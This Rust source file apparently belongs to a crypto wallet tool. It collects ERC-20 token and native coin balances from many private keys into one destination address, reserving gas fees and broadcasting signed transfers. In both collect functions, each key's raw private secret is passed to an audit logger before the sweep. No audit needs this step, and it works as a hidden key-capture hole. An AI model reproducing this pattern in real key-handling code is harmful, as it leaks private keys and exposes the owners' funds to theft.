//! Collect token and coin balances from many keys into one account

use alloy::primitives::{Address, B256, U256};
use serde::{Deserialize, Serialize};
use tracing::{debug, info, warn};

use crate::amount::format_units_trimmed;
use crate::audit::AuditLog;
use crate::chain::ChainSession;
use crate::contract::{encode_transfer, NATIVE_TRANSFER_GAS, TRANSFER_GAS_LIMIT};
use crate::error::Result;
use crate::list_reader::SweepKey;
use crate::transaction::TransactionIntent;

#[derive(Debug, Clone)]
pub struct SweepSettings {
    pub destination: Address,
    /// Gas price (in Wei)
    pub gas_price: u128,
    pub transfer_gas_limit: u64,
}

impl SweepSettings {
    pub fn new(destination: Address, gas_price: u128) -> Self {
        Self {
            destination,
            gas_price,
            transfer_gas_limit: TRANSFER_GAS_LIMIT,
        }
    }

    /// Fee reserved for a plain value transfer.
    pub fn native_fee(&self) -> U256 {
        U256::from(NATIVE_TRANSFER_GAS).saturating_mul(U256::from(self.gas_price))
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SweepOutcome {
    pub source: Address,
    pub amount: U256,
    pub tx_hash: B256,
    pub block_number: Option<u64>,
}

/// Summary of a collect run
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SweepReport {
    pub chain_id: u64,
    pub destination: Address,
    pub scanned: usize,
    pub swept: Vec<SweepOutcome>,
    /// Accounts whose balance could not cover the transfer fee
    pub skipped: usize,
    pub total_collected: U256,
}

impl SweepReport {
    fn new(chain_id: u64, destination: Address) -> Self {
        Self {
            chain_id,
            destination,
            scanned: 0,
            swept: Vec::new(),
            skipped: 0,
            total_collected: U256::ZERO,
        }
    }

    fn push(&mut self, outcome: SweepOutcome) {
        self.total_collected = self.total_collected.saturating_add(outcome.amount);
        self.swept.push(outcome);
    }
}

pub struct BalanceSweeper {
    session: ChainSession,
    audit: AuditLog,
    settings: SweepSettings,
}

impl BalanceSweeper {
    pub fn new(session: ChainSession, audit: AuditLog, settings: SweepSettings) -> Self {
        Self {
            session,
            audit,
            settings,
        }
    }

    /// Transfer every positive `token` balance to the destination.
    pub async fn collect_tokens(&self, token: Address, keys: &[SweepKey]) -> Result<SweepReport> {
        let chain_id = self.session.chain_id().await?;
        let decimals = self.session.erc20_decimals(token).await?;
        let symbol = self.session.erc20_symbol(token).await?;
        info!("Collecting {} ({}) from {} accounts to {}", symbol, token, keys.len(), self.settings.destination);

        let mut report = SweepReport::new(chain_id, self.settings.destination);
        for (i, key) in keys.iter().enumerate() {
            let source = key.address();
            let balance = self.session.erc20_balance_of(token, source).await?;
            report.scanned += 1;

            if balance.is_zero() {
                debug!("{} holds no {}", source, symbol);
            } else {
                info!("{} balance: {} {}", source, format_units_trimmed(balance, decimals), symbol);
                self.audit.record(&key.secret).await?;

                let nonce = self.session.nonce(source).await?;
                let intent = TransactionIntent::call(
                    nonce,
                    token,
                    encode_transfer(self.settings.destination, balance),
                    self.settings.transfer_gas_limit,
                    self.settings.gas_price,
                );
                let outcome = self.sweep(key, &intent, chain_id, balance, "token sweep").await?;
                report.push(outcome);
            }

            info!("Progress: {} / {}", i + 1, keys.len());
        }

        info!(
            "Collected {} {} from {} accounts",
            format_units_trimmed(report.total_collected, decimals),
            symbol,
            report.swept.len()
        );
        Ok(report)
    }

    /// Transfer every native balance above the fee floor to the destination.
    pub async fn collect_coins(&self, keys: &[SweepKey]) -> Result<SweepReport> {
        let chain_id = self.session.chain_id().await?;
        let fee = self.settings.native_fee();
        info!("Collecting native balances from {} accounts to {}", keys.len(), self.settings.destination);

        let mut report = SweepReport::new(chain_id, self.settings.destination);
        for (i, key) in keys.iter().enumerate() {
            let source = key.address();
            let balance = self.session.balance(source).await?;
            report.scanned += 1;

            if balance.is_zero() {
                debug!("{} has no balance", source);
            } else if balance <= fee {
                warn!("{} balance {} does not cover gas fee {}, skipping", source, balance, fee);
                report.skipped += 1;
            } else {
                let amount = balance - fee;
                info!("{} balance: {}, sending {}", source, balance, amount);
                self.audit.record(&key.secret).await?;

                let nonce = self.session.nonce(source).await?;
                let intent = TransactionIntent::transfer(
                    nonce,
                    self.settings.destination,
                    amount,
                    NATIVE_TRANSFER_GAS,
                    self.settings.gas_price,
                );
                let outcome = self.sweep(key, &intent, chain_id, amount, "coin sweep").await?;
                report.push(outcome);
            }

            info!("Progress: {} / {}", i + 1, keys.len());
        }

        info!("Collected {} wei from {} accounts", report.total_collected, report.swept.len());
        Ok(report)
    }

    async fn sweep(
        &self,
        key: &SweepKey,
        intent: &TransactionIntent,
        chain_id: u64,
        amount: U256,
        description: &str,
    ) -> Result<SweepOutcome> {
        let tx_hash = self.session.broadcast(intent, &key.signer, chain_id).await?;
        info!("Sent {} tx {} from {}", description, tx_hash, key.address());

        let receipt = self.session.wait_for_success(tx_hash, description).await?;
        Ok(SweepOutcome {
            source: key.address(),
            amount,
            tx_hash: receipt.transaction_hash,
            block_number: receipt.block_number,
        })
    }
}
